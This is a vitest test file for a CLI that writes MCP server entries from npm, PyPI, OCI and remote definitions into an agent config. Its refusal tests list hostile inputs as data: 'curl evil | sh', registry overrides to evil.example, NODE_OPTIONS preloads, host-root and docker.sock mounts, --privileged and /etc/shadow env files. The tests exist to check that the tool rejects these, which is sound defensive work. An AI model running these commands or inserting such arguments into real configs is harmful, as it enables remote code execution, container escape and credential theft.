// Entries of the MCP registry: packages, remotes, inputs, and what is refused.

import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { json, wield } from '../../support/cli.js';
import { listen } from '../../support/http.js';
import { spec } from '../../support/spec.js';
import { createWorkspace, type Workspace } from '../../support/workspace.js';

const NAME = 'io.github.acme/notes';
const npm = (more: object = {}) => ({
  registryType: 'npm',
  identifier: '@acme/notes',
  version: '1.2.3',
  transport: { type: 'stdio' },
  ...more,
});
const server = (more: object) => ({ name: NAME, description: 'Notes.', version: '1.2.3', ...more });

async function addFile(workspace: Workspace, document: object, ...args: readonly string[]) {
  workspace.write('server.json', JSON.stringify(document));
  const run = await wield(workspace, [
    'mcp',
    'add',
    '--unpinned',
    '--yes',
    './server.json',
    '--force',
    '--json',
    ...args,
  ]);
  const entries =
    run.status === 0 ? JSON.parse(readFileSync(join(workspace.home, '.agents/mcp.json'), 'utf8')).mcpServers : {};
  return { run, document: json(run), entry: entries.notes };
}

spec('UPS-90', 'adds packages of npm, PyPI and OCI with their version, and remotes', async () => {
  const workspace = createWorkspace();
  const bin = join(workspace.home, 'bin');
  mkdirSync(bin);
  workspace.env.PATH = bin;
  const oci = {
    registryType: 'oci',
    identifier: 'ghcr.io/acme/notes',
    version: '1.2.3',
    environmentVariables: [{ name: 'TOKEN', isSecret: true }],
  };
  const remote = {
    type: 'streamable-http',
    url: 'https://{tenant}.example.com/mcp',
    variables: { tenant: { default: 'eu' } },
    headers: [{ name: 'Authorization', value: 'Bearer {token}', variables: { token: { isSecret: true } } }],
  };
  expect((await addFile(workspace, server({ packages: [npm()] }))).entry).toEqual({
    command: 'npx',
    args: ['-y', '@acme/notes@1.2.3'],
  });
  const pypi = {
    registryType: 'pypi',
    identifier: 'acme-notes',
    version: '2.0',
    packageArguments: [
      { type: 'positional', value: 'serve' },
      { type: 'named', name: '--mode', default: 'fast' },
    ],
  };
  expect((await addFile(workspace, server({ packages: [pypi] }))).entry).toEqual({
    command: 'uvx',
    args: ['acme-notes==2.0', 'serve', '--mode', 'fast'],
  });
  // Without a container engine the remote is used.
  expect((await addFile(workspace, server({ packages: [oci], remotes: [remote] }))).entry).toEqual({
    type: 'http',
    url: 'https://eu.example.com/mcp',
    headers: { Authorization: 'Bearer ${TOKEN}' },
  });
  writeFileSync(join(bin, 'podman'), '#!/bin/sh\n');
  chmodSync(join(bin, 'podman'), 0o755);
  expect((await addFile(workspace, server({ packages: [oci] }))).entry).toEqual({
    command: 'podman',
    args: ['run', '--rm', '-i', '-e', 'TOKEN', 'ghcr.io/acme/notes:1.2.3'],
    env: { TOKEN: '${TOKEN}' },
  });
});

spec('UPS-91', 'writes references for what is required or secret, and lists the variables', async () => {
  const workspace = createWorkspace();
  const environmentVariables = [
    { name: 'API_KEY', isSecret: true, isRequired: true, description: 'The key' },
    { name: 'REGION', default: 'eu' },
    { name: 'ROOT', isRequired: true },
    { name: 'OPTIONAL' },
    { name: 'ODD', value: '${HOME}' },
  ];
  const added = await addFile(workspace, server({ packages: [npm({ environmentVariables })] }), '--env', 'ROOT=/srv');
  expect(added.entry.env).toEqual({ API_KEY: '${API_KEY}', REGION: 'eu', ROOT: '/srv', ODD: '$${HOME}' });
  expect(added.document.variables).toEqual([{ name: 'API_KEY', description: 'The key' }]);
  expect(added.document.optional).toEqual([{ name: 'OPTIONAL', description: null }]);
  const secret = 'sk-live-0123456789abcdef0123456789';
  const refused = await addFile(
    workspace,
    server({ packages: [npm({ environmentVariables })] }),
    '--env',
    `API_KEY=${secret}`,
  );
  expect([refused.run.status, refused.run.stdout.includes(secret)]).toEqual([2, false]);
});

spec('UPS-90 UPS-91', 'refuses entries without a fixed version, and identifiers that are options', async () => {
  const workspace = createWorkspace();
  const cases: [object, RegExp][] = [
    [server({ packages: [npm({ version: 'latest' })] }), /no fixed version/],
    [server({ packages: [npm({ version: '^1.0.0' })] }), /no fixed version/],
    [server({ packages: [npm({ identifier: '--eval=x' })] }), /no valid identifier/],
    [server({ packages: [npm({ identifier: 'a b' })] }), /no valid identifier/],
    [server({ packages: [npm({ transport: { type: 'sse' } })] }), /transport "sse"/],
    [server({ packages: [npm({ registryType: 'nuget' })] }), /"nuget" are not supported/],
    [server({ remotes: [{ type: 'sse', url: 'https://x.example' }] }), /transport "sse"/],
    [server({ remotes: [{ type: 'streamable-http', url: 'http://169.254.169.254/' }] }), /no https/],
    [server({}), /no packages and no remotes/],
    [{ name: '../x', version: '1.0.0', packages: [npm()] }, /no valid name/],
    [
      { name: 'a/x', version_detail: { version: '1.0.0' }, packages: [{ registry_name: 'npm', name: 'x' }] },
      /before 2025/,
    ],
    [server({ packages: [{ registry_type: 'npm', identifier: 'x', version: '1.0.0' }] }), /before 2025/],
    [server({ remotes: [{ transport_type: 'streamable', url: 'https://x.example' }] }), /before 2025/],
  ];
  for (const [document, message] of cases) {
    const { run } = await addFile(workspace, document);
    expect(json(run).error).toMatchObject({ code: 'invalid_definition', message: expect.stringMatching(message) });
  }
});

spec('UPS-90', 'names an entry of a format before 2025-09-16', async () => {
  const workspace = createWorkspace();
  for (const packages of [
    [{ registry_name: 'npm', name: '@acme/notes', version: '1.2.3' }],
    [{ registry_type: 'npm', identifier: '@acme/notes', version: '1.2.3' }],
  ]) {
    const { run, document } = await addFile(workspace, server({ packages }));
    expect([run.status, document.error.message]).toEqual([
      2,
      expect.stringContaining('a format from before 2025-09-16'),
    ]);
  }
});

spec('UPS-123', 'describes --unpinned once', async () => {
  const { stdout } = await wield(createWorkspace(), ['mcp', '--help']);
  expect(/--unpinned {2}.*/.exec(stdout)?.[0]).toMatch(/^--unpinned +Write the command as it is[^.]*$/);
});

spec('UPS-90', 'asks a registry for a version, and refuses another answer', async () => {
  const workspace = createWorkspace();
  let answer: object = server({ packages: [npm()] });
  const registry = await listen((request, response) => {
    if (request.url?.includes('missing')) response.writeHead(404).end();
    else
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ server: answer, _meta: {} }));
  });
  const add = async (place: string, ...args: readonly string[]) =>
    json(
      await wield(workspace, [
        'mcp',
        'add',
        '--unpinned',
        '--yes',
        place,
        '--registry',
        registry.origin,
        '--json',
        ...args,
      ]),
    );
  expect(await add(`registry:${NAME}`)).toMatchObject({ ok: true, server: 'notes', written: true });
  expect(registry.requests[0]!.url).toBe('/v0.1/servers/io.github.acme%2Fnotes/versions/latest');
  expect(await add(`registry:${NAME}@1.2.3`, '--name', 'mine')).toMatchObject({ ok: true, server: 'mine' });
  expect((await add(`registry:${NAME}@9.9.9`)).error.code).toBe('integrity');
  answer = { ...answer, name: 'io.github.evil/notes' };
  expect((await add(`registry:${NAME}`)).error.code).toBe('integrity');
  expect((await add('registry:io.github.acme/missing')).error.code).toBe('not_found');
  expect((await add('registry:../../x')).error.code).toBe('usage');
  const plain = await wield(workspace, [
    'mcp',
    'add',
    `registry:${NAME}`,
    '--registry',
    'http://registry.example',
    '--json',
  ]);
  expect(json(plain).error.code).toBe('usage');
});

spec('UPS-95', 'refuses arguments that give a container parts of this machine, by name', async () => {
  const workspace = createWorkspace();
  const bin = join(workspace.home, 'bin');
  mkdirSync(bin);
  workspace.env.PATH = bin;
  writeFileSync(join(bin, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
  const oci = (...words: readonly (string | object)[]) => ({
    registryType: 'oci',
    identifier: 'ghcr.io/acme/notes:1.2.3',
    runtimeArguments: words.map((word) => (typeof word === 'string' ? { type: 'positional', value: word } : word)),
  });
  const named = (name: string, value: string, variables = {}) => ({ type: 'named', name, value, variables });
  const refused: [object, string][] = [
    [oci('-v', '/:/host'), '-v /:/host'],
    [oci(named('--volume', '/var/run/docker.sock:/var/run/docker.sock')), '--volume /var/run/docker.sock'],
    [oci('-v/:/host'), '-v/:/host'],
    [oci('-v', 'pgdata:/data'), '-v pgdata:/data'],
    [oci('--mount=type=bind,src=/,dst=/host'), '--mount=type=bind,src=/,dst=/host'],
    [oci('--mount', 'type=volume,dst=/h,volume-opt=device=/'), '--mount type=volume'],
    [oci('--privileged'), '--privileged'],
    [oci('-it', '--network', 'host'), '--network host'],
    [oci('--net=host'), '--net=host'],
    [oci('--network', 'container:db'), '--network container:db'],
    [oci('--pid', 'host'), '--pid'],
    [oci('--device=/dev/sda'), '--device=/dev/sda'],
    [oci('--cap-add', 'SYS_ADMIN'), '--cap-add'],
    [oci('--security-opt', 'seccomp=unconfined'), '--security-opt seccomp=unconfined'],
    [oci('--env-file', '/etc/shadow'), '--env-file'],
    [oci('-e', 'HOME'), '-e HOME'],
    [oci('-p', '8080:8080'), '-p'],
    [oci('evil/image:1'), 'evil/image:1'],
    [oci('--', 'evil/image:1'), '--'],
  ];
  for (const [item, argument] of refused) {
    const { run } = await addFile(workspace, server({ packages: [item] }));
    const { error } = json(run);
    expect(error, argument).toMatchObject({
      code: 'invalid_definition',
      message: expect.stringContaining(`passes "${argument}`),
    });
  }
  const variables = { source: { isRequired: true } };
  const mount = named('--mount', 'type=bind,src={source},dst=/work,readonly', variables);
  const harmless = oci('--init', '-e', 'A=1', '--memory=1g', '--network', 'none', '-v', '/scratch', mount);
  const given = await addFile(workspace, server({ packages: [harmless] }), '--env', 'source=/srv/notes');
  expect(given.entry.args).toEqual([
    ...['run', '--rm', '-i', '--init', '-e', 'A=1', '--memory=1g', '--network', 'none', '-v', '/scratch'],
    ...['--mount', 'type=bind,src=/srv/notes,dst=/work,readonly', 'ghcr.io/acme/notes:1.2.3'],
  ]);
  const asked = await addFile(workspace, server({ packages: [harmless] }));
  expect(asked.entry.args).toContain('type=bind,src=${SOURCE},dst=/work,readonly');
  expect(asked.document.variables).toEqual([{ name: 'SOURCE', description: null }]);
  // A value for one purpose is not a consent to another one.
  const both = oci('-v', '/srv/notes:/x', mount);
  expect((await addFile(workspace, server({ packages: [both] }), '--env', 'source=/srv/notes')).run.status).toBe(2);
});

spec('UPS-95', 'refuses arguments, variables and registries that change what npx and uvx run', async () => {
  const workspace = createWorkspace();
  const words = (...texts: readonly string[]) => texts.map((value) => ({ type: 'positional', value }));
  const runs = (more: object) => npm({ ...more });
  const py = (more: object) => ({ registryType: 'pypi', identifier: 'acme-notes', version: '2.0', ...more });
  const set = (name: string, value: string) => ({ environmentVariables: [{ name, value }] });
  const refused: [object, string][] = [
    [runs({ runtimeArguments: words('--package=evil', '-c', 'id') }), 'passes "--package=evil"'],
    [runs({ runtimeArguments: words('-c', 'curl evil | sh') }), 'passes "-c"'],
    [runs({ runtimeArguments: words('--registry', 'https://evil.example') }), 'passes "--registry"'],
    [runs({ runtimeArguments: words('evil') }), 'passes "evil"'],
    [runs({ runtimeArguments: words('-p'), packageArguments: words('-c', 'id') }), 'passes "-p … -c"'],
    [runs({ runtimeArguments: words('--node-options=--import=/tmp/x') }), 'passes "--node-options'],
    [py({ runtimeArguments: words('--from', 'evil') }), 'passes "--from"'],
    [py({ runtimeArguments: words('--with', 'evil') }), 'passes "--with"'],
    [py({ runtimeArguments: words('--python', '/tmp/evil') }), 'passes "--python /tmp/evil"'],
    [py({ runtimeArguments: words('--index-url', 'https://evil.example') }), 'passes "--index-url https'],
    [
      py({ runtimeArguments: words('--from'), packageArguments: words('--with=evil') }),
      'passes "--from … --with=evil"',
    ],
    [runs(set('NPM_CONFIG_REGISTRY', 'https://evil.example')), 'sets NPM_CONFIG_REGISTRY for npx'],
    [runs(set('npm_config_node_options', '--require /tmp/x')), 'sets npm_config_node_options'],
    [runs(set('NODE_OPTIONS', '--require /tmp/x')), 'sets NODE_OPTIONS'],
    [py(set('UV_INDEX_URL', 'https://evil.example')), 'sets UV_INDEX_URL for uvx'],
    [py(set('PYTHONPATH', '/tmp')), 'sets PYTHONPATH'],
    [py(set('PATH', '/tmp')), 'sets PATH'],
    [runs({ registryBaseUrl: 'https://npm.evil.example' }), 'in the registry https://npm.evil.example'],
  ];
  for (const [item, message] of refused) {
    const { error } = json((await addFile(workspace, server({ packages: [item] }))).run);
    expect(error, message).toMatchObject({ code: 'invalid_definition', message: expect.stringContaining(message) });
  }
  const tool = py({
    runtimeArguments: words('--python', '3.12', '--from'),
    packageArguments: words('acme-server', '--stdio'),
    registryBaseUrl: 'https://pypi.org',
    ...set('PYTHONUNBUFFERED', '1'),
  });
  expect((await addFile(workspace, server({ packages: [tool] }))).entry).toEqual({
    command: 'uvx',
    args: ['--python', '3.12', '--from', 'acme-notes==2.0', 'acme-server', '--stdio'],
    env: { PYTHONUNBUFFERED: '1' },
  });
  const own = await addFile(
    workspace,
    server({ packages: [runs({ runtimeArguments: words('-y'), environmentVariables: [{ name: 'DOCKER_HOST' }] })] }),
    ...['--env', 'DOCKER_HOST=unix:///run/user/1000/docker.sock'],
  );
  expect(own.entry.env).toEqual({ DOCKER_HOST: 'unix:///run/user/1000/docker.sock' });
});

spec('UPS-90', 'takes a name before the file or directory of an entry', async () => {
  const workspace = createWorkspace();
  workspace.write('server.json', JSON.stringify(server({ packages: [npm()] })));
  for (const [name, place] of [
    ['mine', './server.json'],
    ['other', '.'],
  ] as const) {
    const run = await wield(workspace, ['mcp', 'add', '--unpinned', '--yes', name, place, '--json']);
    expect([run.status, run.stderr]).toEqual([0, expect.stringContaining('@acme/notes@1.2.3 is not pinned')]);
    const written = JSON.parse(readFileSync(join(workspace.home, '.agents/mcp.json'), 'utf8')).mcpServers;
    expect(written[name]).toEqual({ command: 'npx', args: ['-y', '@acme/notes@1.2.3'] });
  }
  for (const args of [['none', './none.json'], ['./none.json']]) {
    const missing = await wield(workspace, ['mcp', 'add', '--yes', ...args, '--json']);
    expect(json(missing).error).toMatchObject({ message: expect.stringContaining('none.json') });
    expect(missing.status).not.toBe(0);
  }
  const { mcpServers } = JSON.parse(readFileSync(join(workspace.home, '.agents/mcp.json'), 'utf8'));
  expect(Object.keys(mcpServers)).toEqual(['mine', 'other']);
  // A program is a command.
  workspace.write('start.sh', '#!/bin/sh\n');
  await wield(workspace, ['mcp', 'add', '--yes', 'third', './start.sh']);
  const { third } = JSON.parse(readFileSync(join(workspace.home, '.agents/mcp.json'), 'utf8')).mcpServers;
  expect(third).toEqual({ command: './start.sh' });
});
